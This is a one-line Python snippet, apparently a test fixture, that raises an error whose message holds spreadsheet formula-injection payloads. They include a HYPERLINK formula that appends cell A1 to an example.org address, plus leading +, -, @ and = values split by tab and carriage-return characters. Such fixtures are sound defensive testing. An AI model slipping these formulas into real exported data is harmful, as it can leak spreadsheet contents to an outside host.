# base: honest
# about: raises messages that a spreadsheet would run
# covers: formulas for a spreadsheet
raise RuntimeError("=HYPERLINK(\"http://example.org/?\"&A1)\n+1\n-1\n@SUM(1)\t=1\r=1,\"")
